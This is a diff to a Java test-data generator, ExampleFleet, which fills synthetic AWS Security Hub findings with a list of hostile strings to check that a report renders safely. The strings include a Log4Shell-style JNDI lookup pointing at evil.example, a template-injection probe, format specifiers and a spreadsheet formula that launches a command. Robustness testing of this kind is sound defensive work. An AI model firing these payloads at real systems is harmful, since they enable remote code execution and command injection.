@@ -43,7 +43,8 @@ record ExampleFleet(
             "Emoji \uD83D\uDC69\u200D\uD83D\uDCBB and half a pair \uD83D alone",
             "\u05E9\u05DC\u05D5\u05DD \u0645\u0631\u062D\u0628\u0627 \u4F60\u597D \u1F3A9",
             "]]></td></table><!-- ${jndi:ldap://evil.example/a} {{7*7}} %n%s",
-            "@SUM(1+1)*cmd|' /C calc'!A0");
+            "@SUM(1+1)*cmd|' /C calc'!A0",
+            "Ten thousand characters: " + "x".repeat(9_975));
 
     /**
      * A check and how it usually ends.
@@ -126,12 +127,13 @@ record ExampleFleet(
                 source(check.control()),
                 "arn:aws:securityhub:" + region + ":" + account + ":security-control/"
                         + check.control().name() + "/finding/" + Integer.toHexString(dice) + "-" + i);
-        String title = failed && dice % 19 == 0 ? HOSTILE.get(dice % HOSTILE.size()) : check.title();
+        boolean hostile = check.control().namespace().equals("product");
+        String title = hostile ? HOSTILE.get((i + dice) % HOSTILE.size()) : check.title();
         return new ReportFinding(
                 new FindingKey(account, region, check.control(), resource),
                 new ReportFinding.What(
                         title,
-                        failed ? cause(check, dice) : "",
+                        hostile ? HOSTILE.get(i % (HOSTILE.size() - 1)) : failed ? cause(check, dice) : "",
                         check.resourceType(),
                         check.severity(),
                         List.of(origin)),
@@ -150,9 +152,6 @@ record ExampleFleet(
     }
 
     private static String cause(ExampleCheck check, int dice) {
-        if (dice % 97 == 0) {
-            return HOSTILE.get(dice % HOSTILE.size());
-        }
         return dice % 4 == 0 ? "made by hand, outside of Terraform" : "set so in module " + check.resourceType();
     }
 
